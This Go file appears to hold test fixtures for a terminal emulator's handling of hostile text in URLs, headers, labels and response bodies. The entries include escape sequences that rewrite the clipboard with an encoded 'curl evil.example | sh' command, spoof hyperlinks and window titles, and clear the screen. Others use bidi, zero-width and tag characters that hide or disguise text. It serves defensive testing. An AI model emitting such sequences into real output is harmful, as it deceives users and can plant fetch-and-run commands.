package emulator

import "strings"

// hostile are entries whose text attacks the terminal that shows it or the
// eye that reads it, one for every class of attack.
func hostile() []oddEntry {
	return []oddEntry{
		{"clipboard", Entry{
			// OSC 52 writes the clipboard.
			ResponseBody: []byte("error\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 end"),
			Labels:       []string{"\x1b]52;c;ZXZpbA==\x1b\\"},
		}},
		{"window-title", Entry{
			URL:          "https://api.acme.io/hooks/\x1b]0;OWNED\x07title",
			ResponseBody: []byte("\x1b]2;OWNED\x1b\\not found"),
		}},
		{"clear-screen", Entry{
			QueueName:    "q\x1b[2J\x1b[Hcleared",
			ResponseBody: []byte("\x1b[2J\x1b[3J\x1b[H\x1b[?1049lcleared\x1bc"),
		}},
		{"c1-utf8", Entry{
			// Some terminals act on C1 controls that are encoded as UTF-8.
			Labels:       []string{"a\u009d0;OWNED\u009cb", "c\u009b2Jd"},
			ResponseBody: []byte("csi \u009b31mred osc \u009d52;c;ZXZpbA==\u009c dcs \u0090q\u009c nel \u0085 apc \u009fx\u009c"),
			Header:       Header{"X-C1": {"\u009b?25l hidden cursor"}},
		}},
		{"c1-raw", Entry{
			Body:         []byte("csi \x9b31m osc \x9d0;OWNED\x9c dcs \x90q\x9c nel \x85 bad \xff\xfe"),
			ResponseBody: []byte("\x9b2J\x9d52;c;ZXZpbA==\x9c overlong \xc0\x80 surrogate \xed\xa0\x80 cut \xf0\x9f\x92"),
		}},
		{"unterminated-osc", Entry{
			ResponseBody: []byte("timeout \x1b]0;everything after this is swallowed"),
			URL:          "https://api.acme.io/hooks/\x1b]8;;open",
		}},
		{"unterminated-dcs", Entry{
			Header:       Header{"X-Trace": {"\x1bPq swallowed"}, "X-Apc\x1b_name": {"\x1b_apc", "\x1b^pm"}},
			ResponseBody: []byte("gateway \x1bPq#0;2;0;0;0"),
		}},
		{"carriage-return", Entry{
			Labels:       []string{"harmless\rDELETED 3000"},
			QueueName:    "queue\r1760000000000-0",
			ResponseBody: []byte("500 internal error\r200 OK            \r\nline two\n\rthree"),
		}},
		{"conceal", Entry{
			// SGR hides or recolours what follows, down to the next rows.
			Header:       Header{"X-\x1b[8mHidden": {"\x1b[8msecret\x1b[0m"}, "X-Colour": {"\x1b[31;7mred"}},
			ResponseBody: []byte("\x1b[8mhidden\x1b[5;7;31mloud"),
		}},
		{"hyperlink", Entry{
			ResponseBody: []byte("see \x1b]8;;https://evil.example/\x1b\\https://status.acme.io\x1b]8;;\x1b\\ for help"),
			Header:       Header{"X-Link": {"\x1b]8;;file:///etc/passwd\x07open"}},
		}},
		{"bidi", Entry{
			URL:          "https://api.acme.io/\u202egpj.exe\u202c/\u2066x\u2069",
			Labels:       []string{"\u202dltr\u202c", "\u200frtl", "שלום"},
			ResponseBody: []byte("access\u202e detnarg \u202cdenied \u2067abc\u2069"),
		}},
		{"zero-width", Entry{
			Labels:       []string{"ord\u200bers", "\ufefforders", "or\u2060ders", "or\u200dders"},
			QueueName:    "bil\u200bling",
			ResponseBody: []byte("in\u200cvisi\u200bble \u180e\u034f\u061c"),
		}},
		{"tag-characters", Entry{
			Labels:       []string{"tag\U000E0001\U000E0065\U000E0076\U000E0069\U000E006C"},
			ResponseBody: []byte("ignore\U000E0049\U000E0047\U000E004E this \ufe0f\U000E0100"),
		}},
		{"stacked-marks", Entry{
			Labels:       []string{"z" + strings.Repeat("\u0300\u0489\u0334", 20)},
			ResponseBody: []byte("H" + strings.Repeat("\u0323\u0310\u0352", 60) + "E" + strings.Repeat("\u0301", 200)),
		}},
		{"control-characters", Entry{
			Header:       Header{"X-Bell": {"\a\a\a"}, "X-Tab\tName": {"a\tb\vc\fd"}},
			QueueName:    "ab\b\b\x7fc",
			ResponseBody: []byte("bell\a back\b\b\b delete\x7f tab\there nul\x00 shift\x0e\x0f vt\v ff\f charset\x1b(0qqq\x1b(B end"),
		}},
		{"invisible-separators", Entry{
			URL:          "https://api.acme.io/a\u2028b\u2029c\u00add",
			Labels:       []string{"blank\u3164label", "\u115f\u1160", "\uffa0", "\u2800\u2800", "no\u00a0break"},
			ResponseBody: []byte("line\u2028two para\u2029three next\u0085four soft\u00adhyphen hangul\u3164 braille\u2800"),
		}},
		{"private-and-lone", Entry{
			Labels: []string{"\ue000\uf8ff\U000F0000", "\u0378\ufdd0\uffff"},
			// A device status query makes the terminal type an answer.
			ResponseBody: []byte("icon \ue0b0 none \uffff query \x1b[6n\x1b[c\x1b]11;?\x07 lone \x1b end \x1b["),
		}},
	}
}
